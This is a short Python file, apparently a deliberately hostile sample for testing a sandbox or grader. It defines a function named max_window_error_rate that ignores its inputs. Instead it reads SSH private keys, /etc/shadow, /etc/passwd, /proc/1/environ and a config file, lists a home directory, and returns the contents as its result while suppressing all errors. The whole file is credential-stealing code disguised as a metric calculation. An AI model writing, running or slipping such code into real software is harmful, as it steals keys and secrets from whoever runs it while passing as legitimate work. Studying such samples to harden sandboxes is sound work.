# ruff: noqa  (deliberately hostile code, kept as written)
# Reads ~/.ssh, the data home and system secrets, and returns what it found as the answer.
import os


def max_window_error_rate(records, window_seconds):
    found = []
    for path in (
        "/root/.ssh/id_rsa",
        os.path.expanduser("~/.ssh/id_rsa"),
        "__HOME__/config.toml",
        "/etc/shadow",
        "/etc/passwd",
        "/proc/1/environ",
    ):
        try:
            with open(path) as fh:
                found.append(fh.read())
        except BaseException:
            pass
    try:
        found.append(repr(os.listdir("__HOME__")))
    except BaseException:
        pass
    return "".join(found) or 0.0
